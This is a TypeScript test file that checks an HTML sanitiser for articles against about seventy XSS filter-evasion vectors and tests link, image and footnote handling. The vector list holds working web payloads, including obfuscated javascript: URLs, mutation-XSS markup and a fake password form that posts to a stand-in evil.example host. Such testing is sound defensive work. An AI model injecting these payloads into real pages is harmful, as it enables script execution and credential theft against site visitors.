import { test } from 'node:test';
import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { sanitizeHtml } from '../electron/articles/sanitize.ts';

// Known XSS vectors in the style of the OWASP XSS filter evasion cheat sheet, plus the loaders and redressers
// an article must not carry (forms, frames, meta refresh, base, CSS).
const vectors: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknIC8+PC9zdmc+#x"></use></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
  '<a href="jav\tascript:alert(1)">raw tab</a>',
  '<a href=" &#14;  javascript:alert(1)">leading junk</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data link 2</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "http://xss.example/xss.css";</style>',
  '<div style="background-image: url(javascript:alert(1))">bg</div>',
  '<div style="width: expression(alert(1));">css expression</div>',
  '<p style="behavior: url(xss.htc);">htc</p>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
  '<form action="http://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<base href="http://evil.example/">',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="http://evil.example/x.html"></object>',
  '<embed src="http://evil.example/x.swf">',
  '<link rel="import" href="http://evil.example/x.html">',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<div onmouseover="alert(1)">hover</div>',
  '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
  '<a href="http://ok.example/" ping="http://evil.example/track">ping</a>',
  '<img src="http://tracker.example/pixel.gif" srcset="http://tracker.example/2x.gif 2x">',
  '<template><script>alert(1)</script></template>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<a href="#" onclick="alert(1)">hash</a>',
  '<div id="root">clobber</div><form name="getElementById"></form>',
  '<xss class=xss onafterscriptexecute=alert(1)>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<img src="x:alert(1)" onerror="eval(src)">',
  '<portal src="http://evil.example/"></portal>',
  '<applet code="x.class"></applet>',
];

const FORBIDDEN_TAGS = ['script', 'iframe', 'frame', 'frameset', 'form', 'input', 'button', 'textarea', 'select', 'object', 'embed', 'applet', 'meta', 'base', 'style', 'link', 'svg', 'math', 'template', 'noscript', 'portal', 'video', 'audio', 'source'];
const URL_ATTRS = ['href', 'src', 'data-src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster', 'srcdoc', 'ping', 'srcset', 'code'];
const RASTER = /^data:image\/(png|jpe?g|gif|webp|avif);base64,/i;

/** Everything dangerous found in sanitised output, as readable strings; [] when the output is inert. */
function dangers(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const found: string[] = [];
  for (const el of document.body.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (FORBIDDEN_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      if (name === 'style') found.push(`${tag}[style]`);
      if (!URL_ATTRS.includes(name)) continue;
      if (!['href', 'src', 'data-src'].includes(name)) {
        found.push(`${tag}[${name}]`);
        continue;
      }
      if (name === 'href' && attr.value.startsWith('#')) continue;
      if (name === 'src' && tag === 'img' && RASTER.test(attr.value)) continue;
      let protocol: string;
      try {
        protocol = new URL(attr.value, 'https://base.example/').protocol;
      } catch {
        found.push(`${tag}[${name}] unparseable ${attr.value}`);
        continue;
      }
      const allowed = name === 'href' ? ['http:', 'https:', 'mailto:'] : ['http:', 'https:'];
      if (!allowed.includes(protocol)) found.push(`${tag}[${name}=${attr.value}]`);
    }
  }
  return found;
}

test(`${vectors.length} known XSS vectors come out inert`, () => {
  assert.ok(vectors.length >= 40);
  for (const vector of vectors) {
    for (const allowRemoteImages of [false, true]) {
      const out = sanitizeHtml(vector, { baseUrl: 'https://news.example/world/story.html', allowRemoteImages });
      assert.deepEqual(dangers(out), [], `vector ${vector} (remote images ${allowRemoteImages}) gave ${out}`);
      // Sanitising twice changes nothing: the output does not re-parse into something else (mutation XSS).
      assert.equal(sanitizeHtml(out, { baseUrl: 'https://news.example/', allowRemoteImages }), out, `unstable output for ${vector}`);
    }
  }
});

test('the vectors are inert without a base URL too', () => {
  for (const vector of vectors) {
    const out = sanitizeHtml(vector, {});
    assert.deepEqual(dangers(out), [], `vector ${vector} gave ${out}`);
  }
});

test('the detector of dangers itself catches each kind of payload', () => {
  // Guards the guard: an unsanitised vector must be reported, or the test above proves nothing.
  assert.notDeepEqual(dangers('<img src=x onerror=alert(1)>'), []);
  assert.notDeepEqual(dangers('<a href="&#106;avascript:alert(1)">x</a>'), []);
  assert.notDeepEqual(dangers('<a href="jav&#x09;ascript:alert(1)">x</a>'), []);
  assert.notDeepEqual(dangers('<iframe srcdoc="x"></iframe>'), []);
  assert.notDeepEqual(dangers('<p style="color:red">x</p>'), []);
  assert.notDeepEqual(dangers('<img src="data:image/svg+xml,<svg>">'), []);
});

test('reading content survives: paragraphs, emphasis, lists, tables, quotes, captions', () => {
  const html = '<h2>Head</h2><p>One <b>bold</b> <em>and</em> <a href="https://x.example/a">a link</a>.</p><ul><li>item</li></ul>'
    + '<blockquote><p>quoted</p></blockquote><figure><figcaption>Caption</figcaption></figure><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>';
  const out = sanitizeHtml(html, {});
  const { document } = new JSDOM(out).window;
  assert.equal(document.querySelector('h2')?.textContent, 'Head');
  assert.equal(document.querySelector('b')?.textContent, 'bold');
  assert.equal(document.querySelector('li')?.textContent, 'item');
  assert.equal(document.querySelector('blockquote p')?.textContent, 'quoted');
  assert.equal(document.querySelector('figcaption')?.textContent, 'Caption');
  assert.equal(document.querySelector('td')?.getAttribute('colspan'), '2');
  assert.equal(document.querySelector('a')?.getAttribute('href'), 'https://x.example/a');
});

test('links open outside with noopener noreferrer, relative ones resolved against the base', () => {
  const out = sanitizeHtml('<a href="/world/other">x</a><a href="../up">y</a><a href="mailto:desk@news.example">z</a>', { baseUrl: 'https://news.example/world/story.html' });
  const links = [...new JSDOM(out).window.document.querySelectorAll('a')];
  assert.deepEqual(links.map((a) => a.getAttribute('href')), ['https://news.example/world/other', 'https://news.example/up', 'mailto:desk@news.example']);
  for (const a of links) {
    assert.equal(a.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(a.getAttribute('target'), '_blank');
  }
});

test('without a base URL, relative links and images are dropped rather than pointed at the app', () => {
  const out = sanitizeHtml('<a href="/world/other">x</a><img src="photo.jpg" alt="p">', {});
  const { document } = new JSDOM(out).window;
  assert.equal(document.querySelector('a')?.hasAttribute('href'), false);
  assert.equal(document.querySelector('a')?.textContent, 'x');
  assert.equal(document.querySelector('img')?.hasAttribute('src'), false);
  assert.equal(document.querySelector('img')?.hasAttribute('data-src'), false);
});

test('footnote links keep working in the page: ids and fragments are prefixed alike', () => {
  const out = sanitizeHtml('<p>Taliban<a href="#fn1">*</a></p><p id="fn1">*banned</p>', { baseUrl: 'https://news.example/a' });
  const { document } = new JSDOM(out).window;
  const a = document.querySelector('a');
  assert.equal(a?.getAttribute('href'), '#user-content-fn1');
  assert.equal(a?.hasAttribute('target'), false);
  assert.ok(document.getElementById('user-content-fn1'));
});

test('remote images wait in data-src unless allowed; lazy-loading sources are found; raster data: images stay', () => {
  const html = '<img src="/p.jpg" alt="photo"><img src="data:image/gif;base64,R0lGOD" data-src="/lazy.jpg"><img src="data:image/png;base64,iVBORw0KGgo=">';
  const blocked = new JSDOM(sanitizeHtml(html, { baseUrl: 'https://news.example/a/' })).window.document.querySelectorAll('img');
  assert.equal(blocked[0]?.hasAttribute('src'), false);
  assert.equal(blocked[0]?.getAttribute('data-src'), 'https://news.example/p.jpg');
  assert.equal(blocked[0]?.getAttribute('alt'), 'photo');
  assert.equal(blocked[1]?.getAttribute('data-src'), 'https://news.example/lazy.jpg');
  assert.equal(blocked[2]?.getAttribute('src'), 'data:image/png;base64,iVBORw0KGgo=');

  const allowed = new JSDOM(sanitizeHtml(html, { baseUrl: 'https://news.example/a/', allowRemoteImages: true })).window.document.querySelectorAll('img');
  assert.equal(allowed[0]?.getAttribute('src'), 'https://news.example/p.jpg');
  assert.equal(allowed[1]?.getAttribute('src'), 'https://news.example/lazy.jpg');
});

test('an image known only by its srcset keeps its largest source; srcset itself never survives', () => {
  const out = sanitizeHtml('<img srcset="/s.jpg 480w, /l.jpg 1080w" alt="x"><img src="/a.jpg" srcset="/b.jpg 2x">', { baseUrl: 'https://news.example/', allowRemoteImages: true });
  const imgs = new JSDOM(out).window.document.querySelectorAll('img');
  assert.equal(imgs[0]?.getAttribute('src'), 'https://news.example/l.jpg');
  assert.equal(imgs[1]?.getAttribute('src'), 'https://news.example/a.jpg');
  assert.ok(!out.includes('srcset'));
});

test('stored output (images held back) can later be shown with images allowed', () => {
  const stored = sanitizeHtml('<img src="https://cdn.example/p.jpg">', { baseUrl: 'https://news.example/' });
  const shown = sanitizeHtml(stored, { allowRemoteImages: true });
  assert.equal(new JSDOM(shown).window.document.querySelector('img')?.getAttribute('src'), 'https://cdn.example/p.jpg');
});

test('HTML nested deeper than browsers nest keeps only its text, inert, instead of overflowing the stack', () => {
  const html = `${'<div>'.repeat(100_000)}<img src=x onerror=alert(1)>deep <b>words</b> &amp; more${'</div>'.repeat(100_000)}`;
  const out = sanitizeHtml(html, {});
  assert.equal(out, '<p>deep words &amp; more</p>');
  assert.deepEqual(dangers(out), []);
});
